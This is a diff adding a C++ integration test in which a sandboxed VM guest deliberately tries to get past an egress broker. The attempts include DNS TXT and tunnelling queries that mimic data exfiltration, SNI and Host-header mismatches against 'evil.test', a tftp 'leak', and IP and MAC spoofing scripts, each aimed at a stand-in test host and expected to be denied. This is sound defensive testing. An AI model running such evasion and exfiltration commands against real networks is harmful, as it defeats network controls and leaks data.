@@ -1,0 +1,677 @@
+// A hostile guest, tested for real (issue 4). A real airlockd starts two real TCG guests of
+// the tiny image on libvirt networks; from inside guest A (airlockctl exec) the test tries
+// every way out it can think of. Each attempt must fail inside the guest AND show up as a
+// denied event in `airlockctl --json egress ls A`. An allowed name reaches a test HTTP server
+// end to end; an ask is answered from the CLI while the guest's curl waits.
+//
+// Runs inside the network namespace of the tests (CI: `ip netns exec airlock-test ctest`),
+// where libvirtd and its bridges live. The "outside" is 203.0.113.20, an address this test
+// puts on that namespace's loopback (and removes); nothing here sends a packet anywhere else.
+#include "daemonharness.h"
+
+#include <QElapsedTimer>
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QProcess>
+#include <QRegularExpression>
+#include <QTemporaryDir>
+#include <QTest>
+#include <arpa/inet.h>
+#include <atomic>
+#include <functional>
+#include <mutex>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <thread>
+#include <unistd.h>
+
+using namespace Qt::StringLiterals;
+
+namespace {
+
+const QString kOutside = u"203.0.113.20"_s;
+
+struct Run {
+    int exitCode = -1;
+    QByteArray out;
+    QByteArray err;
+};
+
+Run runProgram(const QString &program, const QStringList &args, int timeoutMs = 60000)
+{
+    QProcess p;
+    p.start(program, args);
+    Run r;
+    if (!p.waitForStarted(5000))
+        return r;
+    if (!p.waitForFinished(timeoutMs)) {
+        p.kill();
+        p.waitForFinished(2000);
+        r.err = "timed out";
+        return r;
+    }
+    r.exitCode = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
+    r.out = p.readAllStandardOutput();
+    r.err = p.readAllStandardError();
+    return r;
+}
+
+// A plain HTTP server: the internet of the test.
+class Upstream {
+public:
+    bool start(const QString &ip, quint16 port)
+    {
+        m_fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        const int one = 1;
+        ::setsockopt(m_fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+        sockaddr_in sa{};
+        sa.sin_family = AF_INET;
+        sa.sin_port = htons(port);
+        ::inet_pton(AF_INET, ip.toLatin1().constData(), &sa.sin_addr);
+        if (::bind(m_fd, reinterpret_cast<sockaddr *>(&sa), sizeof sa) != 0 || ::listen(m_fd, 64) != 0)
+            return false;
+        m_thread = std::thread([this] { serve(); });
+        return true;
+    }
+    void stop()
+    {
+        if (m_fd < 0)
+            return;
+        ::shutdown(m_fd, SHUT_RDWR);
+        if (m_thread.joinable())
+            m_thread.join();
+        ::close(m_fd);
+        m_fd = -1;
+    }
+    ~Upstream() { stop(); }
+    QList<QByteArray> requests()
+    {
+        std::lock_guard lock(m_mutex);
+        return m_requests;
+    }
+
+private:
+    void serve()
+    {
+        for (;;) {
+            const int c = ::accept4(m_fd, nullptr, nullptr, SOCK_CLOEXEC);
+            if (c < 0)
+                return;
+            QByteArray request;
+            char buf[4096];
+            while (!request.contains("\r\n\r\n")) {
+                pollfd pfd{c, POLLIN, 0};
+                if (::poll(&pfd, 1, 3000) != 1)
+                    break;
+                const ssize_t n = ::recv(c, buf, sizeof buf, 0);
+                if (n <= 0)
+                    break;
+                request.append(buf, int(n));
+            }
+            {
+                std::lock_guard lock(m_mutex);
+                m_requests.append(request);
+            }
+            const QByteArray body = "hello from upstream\n";
+            const QByteArray response = "HTTP/1.1 200 OK\r\nContent-Length: " + QByteArray::number(body.size()) +
+                                        "\r\nConnection: close\r\n\r\n" + body;
+            ::send(c, response.constData(), size_t(response.size()), MSG_NOSIGNAL);
+            ::close(c);
+        }
+    }
+    int m_fd = -1;
+    std::thread m_thread;
+    std::mutex m_mutex;
+    QList<QByteArray> m_requests;
+};
+
+// A listener on the host that a guest must never reach.
+class Sentinel {
+public:
+    bool start(int type, const QString &ip, quint16 port)
+    {
+        m_type = type;
+        m_fd = ::socket(AF_INET, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
+        const int one = 1;
+        ::setsockopt(m_fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+        sockaddr_in sa{};
+        sa.sin_family = AF_INET;
+        sa.sin_port = htons(port);
+        ::inet_pton(AF_INET, ip.toLatin1().constData(), &sa.sin_addr);
+        return ::bind(m_fd, reinterpret_cast<sockaddr *>(&sa), sizeof sa) == 0 && (type != SOCK_STREAM || ::listen(m_fd, 8) == 0);
+    }
+    bool heardAnything()
+    {
+        char buf[512];
+        if (m_type == SOCK_STREAM)
+            return ::accept(m_fd, nullptr, nullptr) >= 0;
+        return ::recv(m_fd, buf, sizeof buf, MSG_DONTWAIT) >= 0;
+    }
+    ~Sentinel()
+    {
+        if (m_fd >= 0)
+            ::close(m_fd);
+    }
+
+private:
+    int m_fd = -1;
+    int m_type = SOCK_STREAM;
+};
+
+bool isSynthetic(const QString &ip)
+{
+    return ip.startsWith("198.18."_L1) || ip.startsWith("198.19."_L1);
+}
+
+} // namespace
+
+class TestEgressVm : public QObject {
+    Q_OBJECT
+
+private:
+    DaemonHarness m_daemon;
+    QTemporaryDir m_dir;
+    Upstream m_upstream;
+    bool m_outsideAdded = false;
+    QString m_a, m_b;         // sandbox names
+    QString m_aIp, m_bIp, m_aGw, m_bGw;
+    QString m_allowedSynthetic;
+    qint64 m_denyRule = 0;
+
+    QString ctlBin() const { return qEnvironmentVariable("AIRLOCKCTL_BIN"); }
+
+    // Runs argv inside sandbox `name` through the guest agent.
+    Run guest(const QString &name, const QStringList &argv, int timeoutMs = 90000)
+    {
+        return runProgram(ctlBin(), QStringList{u"--socket"_s, m_daemon.socketPath(), u"exec"_s, name, u"--"_s} + argv, timeoutMs);
+    }
+    Run guestSh(const QString &name, const QString &script, int timeoutMs = 90000)
+    {
+        return guest(name, {u"sh"_s, u"-c"_s, script}, timeoutMs);
+    }
+    QProcess *guestAsync(const QString &name, const QStringList &argv)
+    {
+        auto *p = new QProcess(this);
+        p->start(ctlBin(), QStringList{u"--socket"_s, m_daemon.socketPath(), u"exec"_s, name, u"--"_s} + argv);
+        return p;
+    }
+
+    QJsonArray events(const QString &sandbox)
+    {
+        const CtlResult r = m_daemon.ctl({u"egress"_s, u"ls"_s, sandbox}, 30000);
+        return r.exitCode == 0 ? QJsonDocument::fromJson(r.out).array() : QJsonArray();
+    }
+    // The newest event of `sandbox` that satisfies `match`, waiting for it a little.
+    QJsonObject waitEvent(const QString &sandbox, const std::function<bool(const QJsonObject &)> &match, int ms = 8000)
+    {
+        QElapsedTimer t;
+        t.start();
+        do {
+            const QJsonArray all = events(sandbox);
+            for (const QJsonValue &v : all) // newest first or last: any match will do
+                if (match(v.toObject()))
+                    return v.toObject();
+            QTest::qWait(200);
+        } while (t.elapsed() < ms);
+        return {};
+    }
+    static std::function<bool(const QJsonObject &)> denied(const QString &key, const QString &value)
+    {
+        return [key, value](const QJsonObject &o) {
+            return o.value(key).toVariant().toString() == value && o.value("decision"_L1).toString() == "denied"_L1;
+        };
+    }
+    // The pending request of `sandbox` matching `match`, waiting for it to appear.
+    QJsonObject waitPending(const std::function<bool(const QJsonObject &)> &match, int ms = 30000)
+    {
+        QElapsedTimer t;
+        t.start();
+        while (t.elapsed() < ms) {
+            const CtlResult r = m_daemon.ctl({u"egress"_s, u"ls"_s, u"--pending"_s}, 15000);
+            for (const QJsonValue &v : QJsonDocument::fromJson(r.out).array())
+                if (match(v.toObject()))
+                    return v.toObject();
+            QTest::qWait(200);
+        }
+        return {};
+    }
+    QJsonObject sandboxRow(const QString &name)
+    {
+        const CtlResult r = m_daemon.ctl({u"ls"_s});
+        for (const QJsonValue &v : r.json().toArray())
+            if (v.toObject().value("name"_L1).toString() == name)
+                return v.toObject();
+        return {};
+    }
+    QByteArray nftTable()
+    {
+        return runProgram(u"nft"_s, {u"list"_s, u"table"_s, u"inet"_s, u"airlock"_s}).out;
+    }
+    bool boot(const QString &name, QString *error)
+    {
+        const CtlResult r = m_daemon.ctl({u"create"_s, name, u"--memory"_s, u"256"_s, u"--start"_s}, 300000);
+        if (r.exitCode != 0)
+            *error = QString::fromUtf8(r.err) + QString::fromUtf8(m_daemon.log());
+        return r.exitCode == 0;
+    }
+
+private Q_SLOTS:
+    void initTestCase();
+    void cleanupTestCase();
+
+    void guestUsesTheGatewayAsRouteAndResolver();
+    void lsShowsPendingCounts();
+    void allowedNameWorksEndToEnd();
+    void askIsAnsweredFromTheCliWhileTheGuestWaits();
+    void deniedNameGetsA403NamingTheHost();
+    void rawIpIsHeldAndDenied();
+    void dnsToAnOutsideResolverIsAnsweredInside();
+    void dnsTxtAndTunnellingAreRefused();
+    void sniThatDiffersFromTheNameIsDenied();
+    void hostHeaderThatDiffersIsDenied();
+    void ipv6IsDropped();
+    void udpToOtherPortsIsDropped();
+    void icmpIsDropped();
+    void hostServicesOnTheGatewayAreUnreachable();
+    void anotherSandboxIsUnreachable();
+    void changingTheGuestIpIsDropped();
+    void changingTheGuestMacIsDropped();
+    void rulesFollowTheSandboxAndSurviveADaemonRestart();
+    void aSandboxWhoseNetworkCannotBeGuardedDoesNotStart();
+};
+
+void TestEgressVm::initTestCase()
+{
+    if (::geteuid() != 0)
+        QFAIL("test_egressvm needs root (libvirt's system connection, nftables, an address on the namespace's loopback)");
+    QVERIFY2(!ctlBin().isEmpty(), "AIRLOCKCTL_BIN is not set: run through ctest");
+    // Never touch the host's own network: the test namespace must be a namespace of its own.
+    QVERIFY2(QFile::symLinkTarget(u"/proc/self/ns/net"_s) != QFile::symLinkTarget(u"/proc/1/ns/net"_s),
+             "run inside the test network namespace: ip netns exec airlock-test ctest --preset debug -L egressvm "
+             "(tests/support/libvirt-env.sh namespace starts libvirtd there)");
+    QVERIFY(m_dir.isValid());
+
+    // The outside: a test server on an address of this namespace's loopback.
+    runProgram(u"ip"_s, {u"link"_s, u"set"_s, u"lo"_s, u"up"_s});
+    const Run added = runProgram(u"ip"_s, {u"addr"_s, u"add"_s, kOutside + u"/32"_s, u"dev"_s, u"lo"_s});
+    m_outsideAdded = added.exitCode == 0;
+    QVERIFY2(m_outsideAdded || added.err.contains("File exists"), added.err.constData());
+    m_outsideAdded = true;
+    QVERIFY2(m_upstream.start(kOutside, 80), "cannot listen on 203.0.113.20:80");
+    QFile hosts(m_dir.filePath(u"upstream-hosts"_s));
+    QVERIFY(hosts.open(QIODevice::WriteOnly));
+    hosts.write("203.0.113.20 allowed.test denied.test ask.test\n");
+    hosts.close();
+    qputenv("AIRLOCK_UPSTREAM_HOSTS", hosts.fileName().toLocal8Bit());
+
+    QString error;
+    QVERIFY2(m_daemon.start(DaemonHarness::sharedDataDir(), &error), qPrintable(error));
+    const CtlResult status = m_daemon.ctl({u"status"_s});
+    QVERIFY2(status.json().toObject().value("egress"_L1).toObject().value("enforcing"_L1).toBool(),
+             "the egress broker does not enforce (nftables unavailable?)");
+
+    m_a = uniqueName(u"evm-a"_s);
+    m_b = uniqueName(u"evm-b"_s);
+    QVERIFY2(boot(m_a, &error), qPrintable(error));
+    QVERIFY2(boot(m_b, &error), qPrintable(error));
+    m_aIp = sandboxRow(m_a).value("ip"_L1).toString();
+    m_bIp = sandboxRow(m_b).value("ip"_L1).toString();
+    QVERIFY(!m_aIp.isEmpty() && !m_bIp.isEmpty());
+    auto gatewayOf = [](const QString &ip) { return ip.section(u'.', 0, 2) + u'.' + QString::number(ip.section(u'.', 3, 3).toInt() - 1); };
+    m_aGw = gatewayOf(m_aIp);
+    m_bGw = gatewayOf(m_bIp);
+
+    QCOMPARE(m_daemon.ctl({u"rule"_s, u"add"_s, u"--sandbox"_s, m_a, u"--action"_s, u"allow"_s, u"--host"_s, u"allowed.test"_s,
+                           u"--port"_s, u"80"_s}).exitCode, 0);
+    const CtlResult deny = m_daemon.ctl({u"rule"_s, u"add"_s, u"--sandbox"_s, m_a, u"--action"_s, u"deny"_s, u"--host"_s, u"denied.test"_s});
+    QCOMPARE(deny.exitCode, 0);
+    m_denyRule = deny.json().toObject().value("id"_L1).toInteger();
+}
+
+void TestEgressVm::cleanupTestCase()
+{
+    for (const QString &name : {m_a, m_b}) {
+        if (name.isEmpty())
+            continue;
+        m_daemon.ctl({u"kill"_s, name});
+        m_daemon.ctl({u"rm"_s, name});
+    }
+    m_daemon.stop();
+    m_upstream.stop();
+    if (m_outsideAdded)
+        runProgram(u"ip"_s, {u"addr"_s, u"del"_s, kOutside + u"/32"_s, u"dev"_s, u"lo"_s});
+}
+
+void TestEgressVm::guestUsesTheGatewayAsRouteAndResolver()
+{
+    const Run resolv = guest(m_a, {u"cat"_s, u"/etc/resolv.conf"_s});
+    QCOMPARE(resolv.exitCode, 0);
+    QVERIFY2(resolv.out.contains("nameserver " + m_aGw.toLatin1()), resolv.out.constData());
+    const Run route = guest(m_a, {u"ip"_s, u"route"_s});
+    QVERIFY2(route.out.contains("default via " + m_aGw.toLatin1()), route.out.constData());
+    // The broker guards both sandboxes' bridges.
+    const QByteArray table = nftTable();
+    QVERIFY2(table.contains("ether saddr != ") && table.count("jump sb") >= 2, table.constData());
+}
+
+void TestEgressVm::lsShowsPendingCounts()
+{
+    const QJsonObject row = sandboxRow(m_a);
+    QVERIFY2(row.contains("pending"_L1), qPrintable(QString::fromUtf8(QJsonDocument(row).toJson())));
+    QCOMPARE(row.value("pending"_L1).toInt(), 0);
+}
+
+void TestEgressVm::allowedNameWorksEndToEnd()
+{
+    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"30"_s, u"http://allowed.test/hello"_s});
+    QVERIFY2(r.exitCode == 0, r.err.constData());
+    QCOMPARE(r.out, QByteArray("hello from upstream\n"));
+    QVERIFY(!m_upstream.requests().isEmpty() && m_upstream.requests().last().contains("Host: allowed.test"));
+    const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
+        return o.value("host"_L1).toString() == "allowed.test"_L1 && o.value("decision"_L1).toString() == "allowed"_L1 &&
+               o.value("proto"_L1).toString() == "http"_L1;
+    });
+    QVERIFY2(!e.isEmpty(), "no allowed http event for allowed.test");
+    QCOMPARE(e.value("path"_L1).toString(), u"/hello"_s);
+    m_allowedSynthetic = e.value("ip"_L1).toString();
+    QVERIFY2(isSynthetic(m_allowedSynthetic), qPrintable(m_allowedSynthetic));
+}
+
+void TestEgressVm::askIsAnsweredFromTheCliWhileTheGuestWaits()
+{
+    QProcess *p = guestAsync(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"100"_s, u"http://ask.test/please"_s});
+    const QString a = m_a;
+    const QJsonObject item = waitPending([a](const QJsonObject &o) {
+        return o.value("sandbox"_L1).toString() == a && o.value("host"_L1).toString() == "ask.test"_L1;
+    }, 60000);
+    QVERIFY2(!item.isEmpty(), "the guest's request to ask.test never became pending");
+    QCOMPARE(p->state(), QProcess::Running); // the guest still waits
+    QCOMPARE(sandboxRow(m_a).value("pending"_L1).toInt(), 1);
+    QCOMPARE(m_daemon.ctl({u"egress"_s, u"allow"_s, QString::number(item.value("id"_L1).toInteger())}).exitCode, 0);
+    QVERIFY(p->waitForFinished(60000));
+    QCOMPARE(p->exitCode(), 0);
+    QCOMPARE(p->readAllStandardOutput(), QByteArray("hello from upstream\n"));
+    QVERIFY(m_upstream.requests().last().contains("Host: ask.test"));
+    QCOMPARE(sandboxRow(m_a).value("pending"_L1).toInt(), 0);
+}
+
+void TestEgressVm::deniedNameGetsA403NamingTheHost()
+{
+    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"30"_s, u"-w"_s, u"\n%{http_code}"_s, u"http://denied.test/secret"_s});
+    QVERIFY2(r.out.endsWith("\n403"), r.out.constData());
+    QVERIFY2(r.out.contains("denied.test"), r.out.constData());
+    QVERIFY2(r.out.contains(QStringLiteral("rule %1").arg(m_denyRule).toLatin1()), r.out.constData());
+    const QJsonObject e = waitEvent(m_a, denied(u"host"_s, u"denied.test"_s));
+    QVERIFY2(!e.isEmpty(), "no denied event for denied.test");
+    QCOMPARE(e.value("rule"_L1).toInteger(), m_denyRule);
+    for (const QByteArray &req : m_upstream.requests())
+        QVERIFY(!req.contains("denied.test"));
+}
+
+void TestEgressVm::rawIpIsHeldAndDenied()
+{
+    // A raw IP has no name to decide on: it is held like any unknown target; the person denies it.
+    QProcess *p = guestAsync(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"100"_s, u"-w"_s, u"\n%{http_code}"_s,
+                                   u"http://203.0.113.20/raw"_s});
+    const QString a = m_a;
+    const QJsonObject item = waitPending([a](const QJsonObject &o) {
+        return o.value("sandbox"_L1).toString() == a && o.value("ip"_L1).toString() == kOutside;
+    }, 60000);
+    QVERIFY2(!item.isEmpty(), "the guest's request to a raw IP never became pending");
+    QCOMPARE(item.value("host"_L1).toString(), QString());
+    QCOMPARE(m_daemon.ctl({u"egress"_s, u"deny"_s, QString::number(item.value("id"_L1).toInteger())}).exitCode, 0);
+    QVERIFY(p->waitForFinished(60000));
+    const QByteArray out = p->readAllStandardOutput();
+    QVERIFY2(out.endsWith("\n403"), out.constData());
+    QVERIFY(!waitEvent(m_a, denied(u"ip"_s, kOutside)).isEmpty());
+    for (const QByteArray &req : m_upstream.requests())
+        QVERIFY2(!req.contains("/raw"), "a raw-IP request reached the server");
+}
+
+void TestEgressVm::dnsToAnOutsideResolverIsAnsweredInside()
+{
+    // Asked of a resolver "on the internet", answered by the broker with a synthetic address:
+    // the query never left (the namespace has no route out either).
+    const Run r = guest(m_a, {u"nslookup"_s, u"outside-resolver.test"_s, u"8.8.8.8"_s});
+    QVERIFY2(r.exitCode == 0, r.out.constData());
+    const QRegularExpression synth(u"Address:\\s*(198\\.1[89]\\.\\d+\\.\\d+)"_s);
+    QVERIFY2(synth.match(QString::fromLatin1(r.out)).hasMatch(), r.out.constData());
+    const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
+        return o.value("proto"_L1).toString() == "dns"_L1 && o.value("host"_L1).toString() == "outside-resolver.test"_L1;
+    });
+    QVERIFY2(!e.isEmpty(), "the redirected query was not recorded");
+    // ... and the name leads nowhere without a decision: a connection to it is held, not made.
+    const Run held = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"3"_s, u"http://outside-resolver.test/"_s});
+    QVERIFY(held.exitCode != 0);
+}
+
+void TestEgressVm::dnsTxtAndTunnellingAreRefused()
+{
+    const Run txt = guest(m_a, {u"nslookup"_s, u"-type=txt"_s, u"exfil.test"_s, u"8.8.8.8"_s});
+    QVERIFY2(!txt.out.contains("text ="), txt.out.constData());
+    QVERIFY2(!waitEvent(m_a, denied(u"host"_s, u"exfil.test"_s)).isEmpty(), "no denied event for the TXT query");
+
+    const QString longName = QString(60, u'a') + u".secret-data-here.tunnel.test"_s;
+    const Run tunnel = guest(m_a, {u"nslookup"_s, longName});
+    QVERIFY(tunnel.exitCode != 0);
+    QVERIFY2(!isSynthetic(QString::fromLatin1(tunnel.out).section(u"Address:"_s, 2, 2).trimmed()), tunnel.out.constData());
+    const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
+        return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains("tunnelling"_L1);
+    });
+    QVERIFY2(!e.isEmpty(), "no denied event for the tunnelling query");
+}
+
+void TestEgressVm::sniThatDiffersFromTheNameIsDenied()
+{
+    QVERIFY(!m_allowedSynthetic.isEmpty());
+    // --resolve: connect to allowed.test's address while the ClientHello names evil.test.
+    const Run resolve = guest(m_a, {u"curl"_s, u"-sSk"_s, u"--max-time"_s, u"20"_s, u"--resolve"_s,
+                                    u"evil.test:443:"_s + m_allowedSynthetic, u"https://evil.test/"_s});
+    QVERIFY(resolve.exitCode != 0);
+    // --connect-to: the guest's own lookup of allowed.test, then evil.test in the handshake.
+    const Run connectTo = guest(m_a, {u"curl"_s, u"-sSk"_s, u"--max-time"_s, u"20"_s, u"--connect-to"_s,
+                                      u"front.test:443:allowed.test:443"_s, u"https://front.test/"_s});
+    QVERIFY(connectTo.exitCode != 0);
+    for (const QString &sni : {u"evil.test"_s, u"front.test"_s}) {
+        const QJsonObject e = waitEvent(m_a, denied(u"sni"_s, sni));
+        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied event with SNI "_s + sni));
+        QCOMPARE(e.value("host"_L1).toString(), u"allowed.test"_s);
+        QVERIFY2(e.value("reason"_L1).toString().contains("SNI"_L1), qPrintable(e.value("reason"_L1).toString()));
+    }
+}
+
+void TestEgressVm::hostHeaderThatDiffersIsDenied()
+{
+    const int before = int(m_upstream.requests().size());
+    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"-w"_s, u"\n%{http_code}"_s, u"-H"_s,
+                              u"Host: evil-host.test"_s, u"http://allowed.test/"_s});
+    QVERIFY2(r.out.endsWith("\n403"), r.out.constData());
+    QCOMPARE(int(m_upstream.requests().size()), before);
+    const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
+        return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains("Host evil-host.test"_L1);
+    });
+    QVERIFY2(!e.isEmpty(), "no denied event naming the Host header");
+}
+
+void TestEgressVm::ipv6IsDropped()
+{
+    // Link-local is all a guest could use: the neighbour solicitation for fe80::1 is dropped.
+    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"-g"_s, u"--max-time"_s, u"4"_s, u"http://[fe80::1%eth0]:80/"_s});
+    QVERIFY(r.exitCode != 0);
+    const Run ping = guest(m_a, {u"ping6"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, u"ff02::1%eth0"_s});
+    QVERIFY2(!ping.out.contains("bytes from"), ping.out.constData());
+    QVERIFY2(!waitEvent(m_a, denied(u"ip"_s, u"ff02::1:ff00:1"_s)).isEmpty(), "no denied event for the IPv6 attempt");
+    QVERIFY2(!waitEvent(m_a, denied(u"ip"_s, u"ff02::1"_s)).isEmpty(), "no denied event for the IPv6 ping");
+}
+
+void TestEgressVm::udpToOtherPortsIsDropped()
+{
+    Sentinel udp;
+    QVERIFY(udp.start(SOCK_DGRAM, kOutside, 69));
+    Sentinel hostUdp;
+    QVERIFY(hostUdp.start(SOCK_DGRAM, m_aGw, 5555));
+    const Run tftp = guest(m_a, {u"timeout"_s, u"5"_s, u"tftp"_s, u"-g"_s, u"-r"_s, u"leak"_s, u"-l"_s, u"/tmp/leak"_s, kOutside});
+    QVERIFY(tftp.exitCode != 0);
+    const Run viaCurl = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"3"_s, u"tftp://%1:5555/leak"_s.arg(m_aGw)});
+    QVERIFY(viaCurl.exitCode != 0);
+    QTest::qWait(300);
+    QVERIFY2(!udp.heardAnything(), "UDP to another port got out");
+    QVERIFY2(!hostUdp.heardAnything(), "UDP reached a host port");
+    for (const auto &[ip, port] : {std::pair{kOutside, 69}, std::pair{m_aGw, 5555}}) {
+        const QJsonObject e = waitEvent(m_a, [ip, port](const QJsonObject &o) {
+            return o.value("proto"_L1).toString() == "udp"_L1 && o.value("ip"_L1).toString() == ip &&
+                   o.value("port"_L1).toInt() == port && o.value("decision"_L1).toString() == "denied"_L1;
+        });
+        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied udp event for %1:%2"_s.arg(ip).arg(port)));
+    }
+}
+
+void TestEgressVm::icmpIsDropped()
+{
+    for (const QString &target : {m_aGw, kOutside}) {
+        const Run r = guest(m_a, {u"ping"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, target});
+        QVERIFY2(r.exitCode != 0 && !r.out.contains("bytes from"), r.out.constData());
+        const QJsonObject e = waitEvent(m_a, [target](const QJsonObject &o) {
+            return o.value("proto"_L1).toString() == "icmp"_L1 && o.value("ip"_L1).toString() == target &&
+                   o.value("decision"_L1).toString() == "denied"_L1;
+        });
+        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied icmp event for "_s + target));
+    }
+}
+
+void TestEgressVm::hostServicesOnTheGatewayAreUnreachable()
+{
+    // A service of the host on the gateway address (as ssh or a web UI would be).
+    Sentinel service;
+    QVERIFY(service.start(SOCK_STREAM, m_aGw, 2222));
+    for (const QString &port : {u"2222"_s, u"22"_s, u"16509"_s}) { // a listener, ssh, libvirt's TCP port
+        const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:%2/"_s.arg(m_aGw, port)});
+        QVERIFY(r.exitCode != 0);
+        const QString gw = m_aGw;
+        const QJsonObject e = waitEvent(m_a, [gw, port](const QJsonObject &o) {
+            return o.value("ip"_L1).toString() == gw && o.value("port"_L1).toInt() == port.toInt() &&
+                   o.value("decision"_L1).toString() == "denied"_L1;
+        });
+        QVERIFY2(!e.isEmpty(), qPrintable(u"no denied event for the gateway's port "_s + port));
+        QVERIFY2(e.value("reason"_L1).toString().contains("host services"_L1), qPrintable(e.value("reason"_L1).toString()));
+    }
+    QVERIFY2(!service.heardAnything(), "a guest reached a service of the host");
+    // The broker's own resolver port over TCP is the one exception, and it only speaks DNS.
+}
+
+void TestEgressVm::anotherSandboxIsUnreachable()
+{
+    // B serves HTTP to itself; A must not reach it.
+    QCOMPARE(guestSh(m_b, u"echo hello-from-b > /tmp/index.html; httpd -p 8080 -h /tmp"_s).exitCode, 0);
+    const Run local = guest(m_b, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, u"http://127.0.0.1:8080/index.html"_s});
+    QVERIFY2(local.out.contains("hello-from-b"), local.err.constData());
+    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, u"http://%1:8080/index.html"_s.arg(m_bIp)});
+    QVERIFY(r.exitCode != 0);
+    QVERIFY(!r.out.contains("hello-from-b"));
+    const Run ping = guest(m_a, {u"ping"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, m_bIp});
+    QVERIFY(ping.exitCode != 0);
+    const QString b = m_bIp;
+    const QJsonObject tcp = waitEvent(m_a, [b](const QJsonObject &o) {
+        return o.value("ip"_L1).toString() == b && o.value("port"_L1).toInt() == 8080 && o.value("decision"_L1).toString() == "denied"_L1;
+    });
+    QVERIFY2(!tcp.isEmpty(), "no denied event for the other sandbox's port");
+    QVERIFY2(tcp.value("reason"_L1).toString().contains("other sandboxes"_L1), qPrintable(tcp.value("reason"_L1).toString()));
+    QVERIFY2(!waitEvent(m_a, [b](const QJsonObject &o) {
+                  return o.value("ip"_L1).toString() == b && o.value("proto"_L1).toString() == "icmp"_L1 &&
+                         o.value("decision"_L1).toString() == "denied"_L1;
+              }).isEmpty(), "no denied icmp event for the other sandbox");
+    // And nothing of A's shows up as B's.
+    for (const QJsonValue &v : events(m_b))
+        QVERIFY(v.toObject().value("sandbox"_L1).toString() == m_b);
+}
+
+void TestEgressVm::changingTheGuestIpIsDropped()
+{
+    const QString spoof = m_aIp.section(u'.', 0, 2) + u".77"_s;
+    // One script: move to another address, try, move back (exec runs over virtio-serial, not the network).
+    const QString script = u"ip addr del %1/30 dev eth0; ip addr add %2/24 dev eth0; ip route add default via %3; "
+                           "curl -sS --max-time 4 http://203.0.113.20/spoof; rc=$?; "
+                           "ip addr del %2/24 dev eth0; ip addr add %1/30 dev eth0; ip route add default via %3; exit $rc"_s
+                               .arg(m_aIp, spoof, m_aGw);
+    const Run r = guestSh(m_a, script);
+    QVERIFY2(r.exitCode != 0, r.out.constData());
+    const QJsonObject e = waitEvent(m_a, [spoof](const QJsonObject &o) {
+        return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains(u"spoofed source "_s + spoof);
+    });
+    QVERIFY2(!e.isEmpty(), "no denied event for the spoofed address");
+    for (const QByteArray &req : m_upstream.requests())
+        QVERIFY(!req.contains("/spoof"));
+    // Back on its own address the guest works again.
+    const Run again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/back"_s});
+    QCOMPARE(again.out, QByteArray("hello from upstream\n"));
+}
+
+void TestEgressVm::changingTheGuestMacIsDropped()
+{
+    const Run mac = guest(m_a, {u"cat"_s, u"/sys/class/net/eth0/address"_s});
+    const QString original = QString::fromLatin1(mac.out).trimmed();
+    QVERIFY2(original.count(u':') == 5, mac.out.constData());
+    const QString script = u"ip link set eth0 down; ip link set eth0 address 52:54:00:66:66:66; ip link set eth0 up; "
+                           "ip route add default via %2 2>/dev/null; curl -sS --max-time 4 http://allowed.test/mac; rc=$?; "
+                           "ip link set eth0 down; ip link set eth0 address %1; ip link set eth0 up; "
+                           "ip route add default via %2 2>/dev/null; exit $rc"_s.arg(original, m_aGw);
+    const Run r = guestSh(m_a, script);
+    QVERIFY2(r.exitCode != 0, r.out.constData());
+    const QString ip = m_aIp;
+    const QJsonObject e = waitEvent(m_a, [ip](const QJsonObject &o) {
+        return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains(u"spoofed source "_s + ip);
+    });
+    QVERIFY2(!e.isEmpty(), "no denied event for the changed MAC");
+    for (const QByteArray &req : m_upstream.requests())
+        QVERIFY(!req.contains("/mac"));
+    const Run again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/back-again"_s});
+    QCOMPARE(again.out, QByteArray("hello from upstream\n"));
+}
+
+void TestEgressVm::rulesFollowTheSandboxAndSurviveADaemonRestart()
+{
+    const qsizetype guarded = nftTable().count("jump sb");
+    QVERIFY(guarded >= 2);
+    // Restart airlockd with both guests running: the table stays meanwhile, reconcile guards them again.
+    m_daemon.stop();
+    QCOMPARE(nftTable().count("jump sb"), guarded);
+    QString error;
+    QVERIFY2(m_daemon.start(DaemonHarness::sharedDataDir(), &error), qPrintable(error));
